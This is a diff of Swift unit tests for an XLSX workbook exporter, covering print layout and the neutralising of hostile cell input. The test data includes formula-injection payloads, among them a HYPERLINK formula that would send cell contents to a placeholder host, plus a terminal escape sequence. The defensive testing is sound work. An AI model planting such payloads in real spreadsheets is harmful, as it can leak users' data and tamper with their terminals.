@@ -80,15 +80,16 @@ final class LampiranWorkbookTests: XCTestCase {
                                  "KABUPATEN SORONG SELATAN", "ESTER HOMER"])
     }
 
-    func testPrintSetupIsLandscapeFittedToOnePageWideWithTheHeaderRepeated() throws {
-        for (paper, index) in [(Paper.f4, "14"), (.a4, "9")] {
+    /// The scale is set (not fitted) so the page breaks the workbook sets are where pages end; every break is set.
+    func testPrintSetupIsLandscapeScaledToOnePageWideWithTheHeaderRepeated() throws {
+        for (paper, index, scale) in [(Paper.f4, "14", "91"), (.a4, "9", "81")] {
             let (_, book) = try workbook(paper: paper)
             let setup = try XCTUnwrap(Workbook.matches(#"<pageSetup [^>]*/>"#, in: book.sheet).first?[0])
-            XCTAssertTrue(setup.contains(#"paperSize="\#(index)""#), setup)
-            XCTAssertTrue(setup.contains(#"orientation="landscape""#), setup)
-            XCTAssertTrue(setup.contains(#"fitToHeight="0""#), setup)
-            XCTAssertFalse(setup.contains("fitToWidth") && !setup.contains(#"fitToWidth="1""#), setup)
-            XCTAssertTrue(book.sheet.contains(#"<pageSetUpPr fitToPage="1"/>"#))
+            XCTAssertEqual(setup, #"<pageSetup paperSize="\#(index)" scale="\#(scale)" orientation="landscape"/>"#)
+            XCTAssertFalse(book.sheet.contains("fitToPage"))
+            XCTAssertGreaterThan(Workbook.matches(#"<brk id="[0-9]+" max="16383" man="1"/>"#, in: book.sheet).count, 8)
+            XCTAssertTrue(book.sheet.contains(#"<headerFooter differentFirst="1"><oddFooter>"#), "the first page unnumbered")
+            XCTAssertTrue(book.sheet.contains("<firstFooter></firstFooter></headerFooter>"))
             XCTAssertTrue(book.workbook.contains(#"<definedName name="_xlnm.Print_Titles" localSheetId="0">LAMPIRAN!$8:$10</definedName>"#),
                           book.workbook)
             XCTAssertTrue(book.sheet.contains(#"<pane ySplit="10" topLeftCell="A11" activePane="bottomLeft" state="frozen"/>"#))
@@ -118,11 +119,17 @@ final class LampiranWorkbookTests: XCTestCase {
         let data = try XlsxExporter().produce(ExportRequest(plan: hostile, marks: nil))
         let hostileBook = try Workbook(data: data)
         XCTAssertFalse(hostileBook.sheet.contains("<f>"), "no formula cells")
-        XCTAssertEqual(hostileBook.cells["B11"], "'=HYPERLINK(\"http://x/?\"&A1,\"click\")", "neutralised (SpreadsheetText)")
-        XCTAssertEqual(hostileBook.cells["C11"], "'+SUM(1)")
-        XCTAssertEqual(hostileBook.cells["D11"], "'@cmd")
-        XCTAssertEqual(hostileBook.cells["E11"], "'-2+3\\u{1B}]0;pwned\\u{7}", "controls shown, not kept")
-        XCTAssertEqual(hostileBook.cells["R11"], "'\tx")
+        // Text cells as written, without a visible apostrophe: the quote-prefix style keeps them text when retyped.
+        XCTAssertEqual(hostileBook.cells["B11"], "=HYPERLINK(\"http://x/?\"&A1,\"click\")")
+        XCTAssertEqual(hostileBook.cells["C11"], "+SUM(1)")
+        XCTAssertEqual(hostileBook.cells["D11"], "@cmd")
+        XCTAssertEqual(hostileBook.cells["E11"], "-2+3\\u{1B}]0;pwned\\u{7}", "controls shown, not kept")
+        XCTAssertEqual(hostileBook.cells["R11"], "\tx")
+        for ref in ["B11", "C11", "D11", "E11", "R11"] {
+            XCTAssertTrue(try XCTUnwrap(hostileBook.format(of: ref), ref).contains(#"quotePrefix="1""#), ref)
+        }
+        XCTAssertFalse(try XCTUnwrap(hostileBook.format(of: "F11")).contains("quotePrefix"), "a plain text is not quote-prefixed")
+        XCTAssertFalse(hostileBook.styles.contains("locked=\"0\""), "the marker of the quote-prefixed formats is gone")
     }
 
     /// The month columns carry the bordered format themselves (only the √ cells are written), rows outside the
